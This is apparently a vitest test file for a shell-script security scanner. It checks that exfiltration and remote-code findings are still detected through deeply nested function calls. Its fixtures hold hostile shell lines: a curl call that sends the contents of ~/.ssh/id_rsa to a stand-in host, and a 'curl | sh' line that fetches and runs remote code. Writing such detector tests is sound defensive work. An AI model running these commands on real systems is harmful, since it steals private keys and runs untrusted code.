import { beforeAll, expect, test } from 'vitest';
import { longestCut } from '../bounds.ts';
import { prepare, scanFile } from '../scan-file.ts';

beforeAll(() => prepare(new Set(['shell'])));

function scan(text: string) {
  const file = { path: 'a.sh', language: 'shell', text, bytes: new Uint8Array(1) } as const;
  const { findings, facts } = scanFile(file, { indicators: false });
  const worst = findings.filter(({ severity }) => severity !== 'info');
  return { worst: worst.map(({ rule, line }) => `${rule} ${line}`), cut: longestCut(facts) };
}

const SEND = 'send() { curl -s -d "$1" http://203.0.113.9/in; }';
const KEY = '"$(cat ~/.ssh/id_rsa)"';

/** Functions that each call the next several times: more calls than anybody can follow. */
function multiplied(last: string): string {
  const names = Array.from({ length: 30 }, (_, i) => `f${i}`);
  const calls = (i: number) => [1, 2, 3].map((n) => `f${i + 1} "$1" ${n}`).join('; ');
  const all = names.map((name, i) => `${name}() { ${i < 29 ? calls(i) : last}; }`);
  return `${all.join('\n')}\n`;
}

test('what functions do that call one another without end is seen, and the file is read', () => {
  const text = `${SEND}\n${multiplied(`send ${KEY}`)}f0 start\n`;
  expect(scan(text)).toEqual({ worst: ['exfiltration 1'], cut: undefined });
});

test('what comes after is followed as it was before, with the data that it is given', () => {
  const text = `${SEND}\nread_it() { cat "$1"; }\n${multiplied('echo "$1"')}f0 start
send hello\nsend "$(date)"\nsend "$(read_it ~/.ssh/id_rsa)"\ncurl http://203.0.113.9/a | sh\n`;
  expect(scan(text)).toEqual({ worst: ['exfiltration 1', 'remote-code 37'], cut: undefined });
});

test('data comes through functions that are only called then', () => {
  const text = `${SEND}\n${multiplied('echo "$1"')}f0 start
through() { local it="$1"; send "$it"; }\nthrough a\nthrough ${KEY}\n`;
  expect(scan(text)).toEqual({ worst: ['exfiltration 1'], cut: undefined });
});

test('functions that nothing calls are followed too', () => {
  const text = `${multiplied('echo "$1"')}f0 start\nnever() { curl http://203.0.113.9/a | sh; }\n`;
  expect(scan(text)).toEqual({ worst: ['remote-code 32'], cut: undefined });
});

test('of two definitions of one name either may count', () => {
  const text = 'if true; then f() { curl http://203.0.113.9/a | sh; }; else f() { :; }; fi\nf\n';
  expect(scan(text).worst).toEqual(['remote-code 1']);
});

test('calls that lie deep are followed after the others', () => {
  const all = Array.from(
    { length: 100 },
    (_, i) => `f${i}() { if true; then f${i + 1} "$1"; fi; }`,
  );
  const text = `${SEND}\n${all.join('\n')}\nf100() { send "$1"; }\nf0 ${KEY}\n`;
  expect(scan(text)).toEqual({ worst: ['exfiltration 1'], cut: undefined });
});

test('more kinds of data than are followed are said to be', () => {
  const names = Array.from({ length: 8 }, (_, i) => `${'ABCDEFGH'[i]}${i}_SECRET_KEY`);
  const calls = names.map((name) => `send "$${name}"`).join('\n');
  expect(scan(`${SEND}\n${multiplied('echo "$1"')}f0 start\n${calls}\n`).cut).toBeDefined();
});

test('functions that are defined anew in functions do not multiply', () => {
  const inner = (depth: number): string =>
    depth === 0
      ? 'curl http://203.0.113.9/a | sh'
      : `g${depth}() { ${inner(depth - 1)}; }; ${`g${depth} a; `.repeat(3)}`;
  expect(scan(`${multiplied('echo "$1"')}f0 start\n${inner(25)}\n`)).toMatchObject({
    worst: ['remote-code 32'],
  });
});

test('the ends of lines of Windows are ends of lines', () => {
  const text = `${SEND}\r\nlog() { echo "$1"; }\r\ncase "$1" in\r\na)\r\n  send ${KEY}\r\n  ;;\r\nesac\r\n`;
  expect(scan(text)).toEqual({ worst: ['exfiltration 1'], cut: undefined });
});
